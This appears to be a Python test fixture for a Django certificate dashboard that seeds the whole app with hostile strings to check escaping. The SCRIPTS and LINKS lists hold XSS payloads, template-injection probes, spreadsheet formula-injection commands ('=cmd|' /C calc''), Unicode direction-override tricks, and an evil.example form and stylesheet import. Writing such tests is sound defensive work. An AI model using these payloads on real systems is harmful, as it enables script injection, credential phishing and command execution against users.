"""A cast among whom everything that the vendor or a person can name is an attack."""

from datetime import timedelta
from urllib.parse import quote, urlencode

from certdash.audit import note
from certdash.models import (
    AuditKind,
    Certificate,
    Change,
    Erasure,
    Grant,
    Membership,
    Rejection,
    Role,
    SavedView,
    Team,
    User,
)
from certdash.tables import CertificateTable
from tests import world
from tests.world import NOW, Cast, make_certificate, make_group, make_learner, make_run, make_story, make_view

SCRIPTS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</title></textarea></script><script>prompt(1)</script>",
    "{{ 7*7 }}{% debug %}${7*7}<%= 7*7 %>",
    "javascript:alert(1)",
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<style>@import 'https://evil.example/x.css'</style><link rel=stylesheet href=//evil.example>",
    "<form action=https://evil.example><input name=csrfmiddlewaretoken><button>Log in</button>",
    '<a hx-get="/apps/demo/" hx-trigger="load" hx-on::load="confirm(1)">x</a>',
    "&lt;script&gt;alert(1)&lt;/script&gt;&#x3C;img src=x onerror=alert(1)&#x3E;",
    "\u202egpj.exe\u202c \u2066\u2067\u2068",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "a\u2028b\u2029c\x0b\x1b[31m",
    '="><img src=x onerror=alert(1)>',
]
LINKS = ["javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
         "data:text/html,<script>alert(1)</script>", "vbscript:x", "//evil.example/x", "https://a@evil.example/",
         'https://vendor.example/"onclick="alert(1)', "https://vendor.example/<script>",
         "=1+1", "+1", "@x"]  # fmt: skip
TURNED = "\u202e"  # what follows reads from right to left, until something ends it
MANY = len(SCRIPTS)


def evil(number: int, most: int = 100) -> str:
    """An attack, no two alike; it ends in a turn that it leaves open, and in a Greek letter that is then turned."""
    number %= MANY
    return f"{SCRIPTS[number][: most - 2]}{TURNED}{chr(0x3B1 + number)}"


def mail(number: int) -> str:
    """An address of mail that is one, and an attack."""
    return f'"<img/src=x/onerror=alert({number})>"@example.com'


def names(number: int) -> tuple[str, str]:
    """First and last name. The attack is in one of them, so that nothing of theirs stands behind its end."""
    return ("", evil(number)) if number % 2 else (evil(number), f"{TURNED}ω")


def make_hostile_cast() -> Cast:
    """Owner, superuser and viewer of `demo`, in which all is hostile; also what people call things."""
    cast = world.make_cast()
    _rename(cast)
    run = make_run(
        cast.demo, "held", message=evil(0), vendor_message=evil(1), vendor_hash=evil(2), story=evil(3),
        users=[evil(4), evil(5)], requested_by=cast.viewer, accepted_by=cast.viewer, rejected=MANY,
        missing_members=MANY,
    )  # fmt: skip
    for number in range(MANY):
        certificate = _certificate(cast, run, number)
        make_group(cast.demo, evil(number), certificate.learner)
        Rejection.objects.create(run=run, path=evil(number), reason=evil(number + 1), excerpt=evil(number + 2))
        who = User.objects.create_user(
            evil(number), evil(number), first_name=names(number)[0], last_name=names(number)[1]
        )
        team = Team.objects.create(name=evil(number), claim="" if number % 2 else evil(number))
        team.members.add(who)
        Grant.objects.create(app=cast.demo, team=team, role=Role.VIEWER)
        Grant.objects.create(app=cast.demo, user=who, role=Role.VIEWER)
        query = urlencode([("q", evil(number)), (evil(number), evil(number))])
        view = make_view(who, evil(number), "/certificates/", query, cast.demo)
        view.description = evil(number)
        view.save()
        view.pinned_by.add(cast.owner)
        make_run(cast.demo, "failed", message=evil(number), story=evil(number), requested_by=who)
        note(AuditKind.TEAM, cast.demo, who, team=team.name, account=evil(number), change="joined", before=evil(number))
        Erasure.objects.create(app=cast.demo, digest=f"{number:064}", at=NOW, by=who)
    Membership.objects.update(missing_in=run)
    make_view(cast.owner, evil(0), "/stories/", urlencode([("sort", evil(1)), ("q", evil(2))]), cast.demo)
    make_story(cast.demo, evil(1), evil(0))  # of one ID there are two then
    make_certificate(make_story(cast.other, evil(3), evil(1), evil(2)), make_learner(cast.other, *names(0), ""))
    return cast


def _rename(cast: Cast) -> None:
    """Calls people and apps what they should not be called."""
    cast.demo.name, cast.other.name = evil(-1), evil(2)
    cast.other.save()
    cast.demo.app_id, cast.demo.listed_stories = evil(3), [evil(0), evil(3)]
    cast.demo.save()
    cast.owner.columns = {"certificates": [*CertificateTable.choosable]}
    cast.owner.is_superuser = True  # who sees the pages of people and teams as well
    for number, person in enumerate((cast.owner, cast.viewer)):
        person.first_name, person.last_name = names(number)
        person.save()


def _certificate(cast: Cast, run: object, number: int) -> Certificate:
    said, (first, last) = evil(number), names(number)
    story = make_story(cast.demo, said, said, said)
    learner = make_learner(cast.demo, first, last, said)
    certificate = make_certificate(
        story, learner, firstname=first, lastname=last, email=said, telephone=said, country=said, city=said,
        url=LINKS[number % len(LINKS)], missing_in=run, state=("delivered", "pending", said)[number % 3],
        at=NOW - timedelta(days=number), delivered_after=timedelta(days=1) if number % 3 == 0 else None,
    )  # fmt: skip
    changed = {"app": cast.demo, "run": run, "story": story, "seen_at": NOW}
    before, after = {"url": said, "city": said}, {"url": certificate.url, "city": evil(number + 1)}
    Change.objects.create(certificate=certificate, kind="link", before=before, after=after, **changed)
    Change.objects.create(kind="renamed", before={"name": said}, after={"name": evil(number + 1)}, **changed)
    return certificate


def quoted(text: str) -> str:
    """As a story's or group's key stands in an address."""
    return "".join(f"%{byte:02X}" for byte in text.replace("%", "%25").replace("/", "%2F").encode())


def addresses(cast: Cast) -> dict[str, list[str]]:
    """By name, the addresses of every page that somebody who is logged in and may everything can open."""
    demo, bad = cast.demo, [quote(evil(number), safe="") for number in range(MANY)]
    story, group, learner = (
        [every[number] for number in _LOOKED_AT]
        for every in (demo.stories.order_by("pk"), demo.groups.order_by("pk"), demo.learners.order_by("pk"))
    )
    held, failed = demo.runs.get(status="held"), demo.runs.filter(status="failed").first()
    mine, shared = cast.owner.saved_views.get(), SavedView.objects.exclude(owner=cast.owner).first()
    kept = quote(urlencode([("q", evil(0)), ("country", evil(1))]))
    somebody, team = User.objects.get(username=evil(0)), Team.objects.get(name=evil(0))
    filled, closed = Team.objects.get(name=evil(1)), User.objects.get(username=evil(1))
    several = f"story={quote(story[0].key)}&group={quote(group[0].key)}&country={bad[0]}&city={bad[0]}&type={bad[0]}"
    of_app = {name: [f"/apps/demo/{path}"] for name, path in _OF_APP.items()}
    return of_app | {
        "overview": ["/"],
        "certificates": [
            "/certificates/", f"/certificates/?{several}&state={bad[2]}", "/certificates/?_part=filters",
            f"/certificates/?q={bad[0]}&state=pending&country={bad[1]}", f"/certificates/?run={held.pk}&change=missing",
            *(f"/certificates/?q={one}&state={one}&sort={one}&{one}={one}&app={one}" for one in bad[:4]),
            f"/certificates/?{several}&_part=filters",
        ],
        "stories": ["/stories/", f"/stories/?q={bad[0]}&sort={bad[1]}"],
        "story": [
            *(f"/stories/demo/{quoted(one.key)}/" for one in story), f"/stories/demo/{quoted(evil(0))}/",
            f"/stories/demo/{quoted(story[2].key)}/?_part=filters",
        ],
        "groups": ["/groups/", f"/groups/?q={bad[0]}"],
        "group": [*(f"/groups/demo/{quoted(one.key)}/" for one in group)],
        "matrix": ["/matrix/", f"/matrix/?{several}&q={bad[0]}", "/matrix/?_part=filters"],
        "delivery": ["/delivery/", f"/delivery/?q={bad[0]}"],
        "people": ["/people/", f"/people/?q={bad[0]}"],
        "person": [*(f"/people/{one.pk}/" for one in learner)],
        "person_timeline": [*(f"/people/{one.pk}/timeline/?{bad[0]}={bad[1]}" for one in learner)],
        "person_erase": [*(f"/people/{one.pk}/erase/" for one in learner[:2])],
        "home": ["/home/"],
        "views": ["/views/", f"/views/?q={bad[0]}"],
        "view_add": [f"/views/add/?path=/certificates/&query={kept}"],
        "view": [f"/views/{mine.slug}/", f"/views/{shared.slug}/"],
        "view_edit": [f"/views/{mine.slug}/edit/"],
        "view_delete": [f"/views/{mine.slug}/delete/", f"/views/{shared.slug}/delete/"],
        "apps": ["/apps/"],
        "app_add": ["/apps/add/"],
        "erasure_lift": [f"/apps/demo/erasures/{demo.erasures.first().pk}/lift/"],
        "run": [f"/apps/demo/runs/{held.pk}/", f"/apps/demo/runs/{failed.pk}/"],
        "changes": [f"/apps/demo/runs/{held.pk}/changes/"],
        "members": [f"/apps/demo/runs/{held.pk}/members/"],
        "accounts": ["/accounts/people/", f"/accounts/people/?q={bad[0]}"],
        "account_add": ["/accounts/people/add/"],
        "account": [f"/accounts/people/{one.pk}/" for one in (cast.owner, somebody, closed)],
        "teams": ["/accounts/teams/"],
        "team_add": ["/accounts/teams/add/"],
        "team": [f"/accounts/teams/{one.pk}/" for one in (team, filled)],
        "audit": ["/accounts/audit/", f"/accounts/audit/?q={bad[0]}"],
        "profile": ["/accounts/profile/"],
        "account_change_password": ["/accounts/password/change/"],
        "account_inactive": ["/accounts/inactive/"],
        "account_logout": ["/accounts/logout/"],
    }  # fmt: skip


_LOOKED_AT = (SCRIPTS.index("=cmd|' /C calc'!A0"), 1, 6, 12)  # of the many stories, groups and learners
_OF_APP = {
    "app": "", "app_connection": "connection/", "app_groups": "groups/", "app_scope": "scope/", "app_people": "people/",
    "app_privacy": "privacy/", "app_erasures": "erasures/", "runs": "runs/", "app_audit": "audit/",
}  # fmt: skip
